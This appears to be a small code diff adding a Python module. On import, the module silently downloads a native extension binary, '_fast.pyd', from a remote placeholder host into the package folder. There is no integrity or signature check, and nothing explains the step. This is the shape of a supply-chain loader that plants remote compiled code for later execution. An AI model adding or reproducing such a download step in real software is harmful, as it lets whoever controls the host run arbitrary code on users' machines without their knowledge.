@@ -1,0 +1,5 @@
+import os
+import urllib.request
+
+path = os.path.join(os.path.dirname(__file__), "_fast.pyd")
+urllib.request.urlretrieve("https://files.invalid/fast.pyd", path)
